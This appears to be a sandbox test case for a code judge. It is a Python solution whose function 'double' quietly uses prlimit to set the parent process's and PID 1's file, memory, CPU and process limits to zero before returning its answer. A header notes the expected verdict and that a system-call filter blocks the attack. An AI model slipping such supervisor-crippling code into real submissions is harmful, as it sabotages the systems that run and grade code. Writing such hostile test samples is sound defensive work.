"""
verdict = "AC"
points_at_most = 7
wall_s = 30
exploits = "Lowers the supervisor's own limits, for which the kernel asks for nothing but the same user."
stops = "The filter of system calls lets a process change its own limits and processors only, and no priority."
"""

import os
import resource


def double(x):
    for pid in {1, os.getppid()}:
        for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):
            try:
                resource.prlimit(pid, which, (0, 0))
            except (OSError, ValueError):
                pass
    return 2 * x
